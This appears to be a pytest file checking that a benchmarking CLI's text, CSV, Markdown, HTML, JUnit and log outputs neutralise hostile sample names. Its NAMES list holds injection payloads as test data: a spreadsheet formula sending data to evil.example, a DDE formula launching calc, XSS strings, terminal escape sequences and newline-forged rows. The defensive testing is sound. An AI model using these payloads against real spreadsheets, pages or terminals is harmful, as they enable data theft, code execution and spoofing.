"""Tests that no name of a sample can forge a line, a cell, a link, a mention or a formula in any face of a run."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest
from kit import MODEL, Cli, MakeSample, MakeWorker
from markdown_it import MarkdownIt
from scores_kit import failed, right, write_run

from graphnet.cli.baseline import report_baseline
from graphnet.exchange.read_log import read_log
from graphnet.outcomes import Outcome
from graphnet.printable import printable
from graphnet.runs.record import DeviceGroup, OutputGroup, Record
from graphnet.runs.store import RunStore
from graphnet.scores.compare.baseline import read_baseline

PROMPT = "graph-net-test-compiler-log"
NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    " -2+3",
    "\t=1+1",
    "\uff1d1+1",
    "@octocat, @org/team and a@evil.example",
    "http://evil.example/ and www.evil.example",
    "fixes #1, GH-2",
    "made/a\nFORGED,OK,9.99",
    "made/b\r\nFORGED row",
    "| x |\n| FORGED | OK |",
    "a | FORGED | b",
    "c\u2028FORGED\x0bFORGED\x85FORGED\x1cFORGED",
    "\x1b[2J\x1b]8;;http://evil.example\x07x\x1b[31m",
    "\u202egnp\u2066.exe",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script><!--",
    "[click](javascript:alert(1)) ![x](//evil.example/x.png)",
    "`code` *bold* _it_ ~~gone~~ # FORGED",
    "x [Speedup][e2e]: 99.9",
    f"victim\n{PROMPT} [Processing] FORGED",
    "last Error: Exception: word",
)
#: Texts on which a spreadsheet, GitHub or a terminal would act if they are shown.
LINKS = re.compile(r"(?<!\w)@\w|\w@\w+\.|https?://|\bwww\.|#\d|\bGH-\d")


def rows(speedup: float) -> list[Record]:
    """Make a right row and a failed one of each name. Each message holds the name of the row's sample."""
    output = OutputGroup(label="0", dtype="float32", shape=[2], equal=True, tolerance_reached=-10, max_abs_error=0.0)
    known: dict[str, Any] = {"outputs": [output], "reference_ns": 2000, "compiled_ns": 1000, "compile_ns": 10**6}
    device = DeviceGroup(type="cpu", index=0, uuid="boot", host="boot", name="CPU", machine_class="CPU, 2 cores")
    known |= {"device": device}
    xla = {"backend": "xla", "flavour": "jax", "stage": "compile"}
    return [
        *(right(speedup, sample=name, key=f"r{n}", **known) for n, name in enumerate(NAMES)),
        *(failed(Outcome.COMPILE_ERROR, sample=name, key=f"f{n}", message=name, **xla) for n, name in enumerate(NAMES)),
    ]


@pytest.fixture
def runs(tmp_path: Path) -> Path:
    """A folder with two runs whose samples have all hostile names. In the later run, every row became slower."""
    control = {"control": "A/A", "sample": NAMES[8], "stable": False, "problem": f"it said {NAMES[8]}"}
    write_run(tmp_path / "before", rows(2.0), controls=[control], started="2026-01-01T00:00:00+00:00")
    write_run(tmp_path / "after", rows(1.0), started="2026-01-02T00:00:00+00:00")
    return tmp_path


def check_lines(text: str) -> None:
    assert not any(line.strip(" |>-").startswith("FORGED") for line in re.split(r"[\n\r]", text))
    assert _unprintable(text) == set()


def _unprintable(text: str) -> set[str]:
    return {one for one in text if one != "\n" and not one.isprintable()}


def check_csv(text: str) -> None:
    check_lines(text)
    cells = list(csv.reader(io.StringIO(text)))
    assert len({len(row) for row in cells}) == 1
    assert len(cells) == len(text.splitlines())
    for cell in (cell for row in cells for cell in row):
        is_number = re.fullmatch(r"[+-]?[\d.]+(e-?\d+)?", cell) is not None
        assert is_number or not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d")), cell


def check_markdown(text: str) -> None:
    check_lines(text)
    # ``compare`` folds rows away in an element of its own.
    ours = {"<details><summary></summary>", "</details>"}
    tokens = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text)
    cells: list[int] = []
    for token in (inner for outer in tokens for inner in (outer, *(outer.children or ()))):
        if token.type.startswith("html"):
            assert re.sub(r"\d+ rows? without a change", "", token.content).strip() in ours, token.content
        assert token.type not in ("link_open", "image", "code_inline", "em_open", "s_open"), token
        assert token.type != "text" or not LINKS.search(token.content), token.content
        if token.type == "tr_open":
            cells.append(0)
        elif token.type in ("td_open", "th_open"):
            cells[-1] += 1
    assert cells


CHECKS = {"text": check_lines, "csv": check_csv, "markdown": check_markdown}
COMMANDS: dict[str, tuple[str, ...]] = {
    "show": ("show", "after"),
    "score": ("score", "before", "--by", "sample"),
    "compare": ("compare", "before", "after"),
    "runs": ("runs", "list", "."),
    "history": ("history", "trend", "--all", "--history", "h.sqlite"),
}


@pytest.mark.parametrize("format_", CHECKS)
@pytest.mark.parametrize("command", COMMANDS)
def test_a_name_forges_nothing(cli: Cli, runs: Path, command: str, format_: str) -> None:
    if command == "history":
        assert cli("history", "add", "before", "after", "--history", "h.sqlite").code == 0
    result = cli(*COMMANDS[command], "--format", format_)
    assert result.out, result.err
    check_lines(result.err)
    CHECKS[format_](result.out)


@pytest.mark.parametrize("name", NAMES)
def test_the_card_of_a_row_is_not_forged(cli: Cli, runs: Path, name: str) -> None:
    result = cli("show", "after", name)
    assert result.code == 0, result.err
    # The lines of a message are shown below the outcome, further right than the titles of the card.
    titles = "".join(f"{line}\n" for line in result.out.split("\n") if not line.startswith("  "))
    check_lines(titles + result.err)
    assert _unprintable(result.out) == set()


def test_json_and_parquet_have_the_names_unchanged(cli: Cli, runs: Path) -> None:
    shown = cli("show", "after", "--format", "json").rows
    assert [row["sample"] for row in shown] == [*NAMES, *NAMES]
    assert cli("export", "after", "--format", "parquet", "--out", "rows.parquet").code == 0
    from pyarrow import parquet

    assert parquet.read_table("rows.parquet")["sample"].to_pylist() == [*NAMES, *NAMES]


def test_junit_has_one_case_per_row(cli: Cli, runs: Path) -> None:
    cases = ET.fromstring(cli("show", "after", "--format", "junit").out).findall(".//testcase")
    assert [case.get("name") for case in cases] == [printable(name) for name in (*NAMES, *NAMES)]


def test_a_log_has_one_sample_per_row_each_with_its_own_numbers(cli: Cli, runs: Path) -> None:
    exported = cli("export", "before", "--format", "graphnet-log", "--backend", "inductor", "--out", "rows.log")
    assert exported.code == 0, exported.err
    text = Path("rows.log").read_text()
    check_lines(text)
    logged = read_log(Path("rows.log"))
    assert [sample.path for sample in logged] == [printable(name).replace(" ", r"\x20") for name in NAMES]
    assert {sample.speedup["e2e"] for sample in logged} == {2.0}
    assert {sample.marked for sample in logged} == {None}


def test_the_page_shows_the_names_as_text(runs: Path, cli: Cli) -> None:
    assert cli("report", "before", "--out", "page.html").code == 0
    page = Path("page.html").read_text()
    assert "<img src=x" not in page
    assert "<script>alert" not in page
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x1b]", page)


def test_a_baseline_names_rows_on_lines_of_their_own(cli: Cli, runs: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli("baseline", "write", "after", "b.json").code == 0
    write_run(runs / "worse", [failed(Outcome.CRASHED, sample=name, key=f"w{n}") for n, name in enumerate(NAMES)])
    checked = report_baseline(Path("b.json"), read_baseline(Path("b.json")), RunStore.open(runs / "worse"))
    said = capsys.readouterr().err
    check_lines(said)
    assert len(checked.bad) == len(NAMES) == len(said.splitlines()) - 1


def test_the_plan_and_the_progress_of_a_run_are_not_forged(
    cli: Cli, make_sample: MakeSample, make_worker: MakeWorker, tmp_path: Path
) -> None:
    for number, name in enumerate(NAMES):
        folder = make_sample(f"n{number}")
        folder.rename(folder.parent / name.replace("/", "_"))
    sites = ("--reference", make_worker("eager").target, "--backend", make_worker("nope").target)
    asked = (
        "bench",
        *sites,
        "--samples",
        tmp_path / "samples",
        "--memory",
        "1GiB",
        "--processes",
        1,
        "--budget",
        0.001,
    )
    planned = cli(*asked, "--dry-run")
    check_lines(planned.out + planned.err)
    assert len(planned.out.splitlines()) == 4 + len(NAMES)
    ran = cli(*asked, "--min-time", 0, "--trials", 2)
    assert ran.code == 0, ran.err
    check_lines(ran.out + ran.err)
    assert sum(line.startswith("[") for line in ran.err.splitlines()) == len(NAMES)


def test_the_text_of_a_sample_is_not_forged(cli: Cli, make_sample: MakeSample) -> None:
    folder = make_sample("x", model=f"# \x1b[2J\u202e\x0cFORGED\n{MODEL}")
    result = cli("samples", "show", folder)
    check_lines(result.out)
    assert "class GraphModule(torch.nn.Module):" in result.out.splitlines()


def test_no_row_is_lost_by_its_name(runs: Path) -> None:
    assert len(RunStore.open(runs / "after").records()) == 2 * len(NAMES)
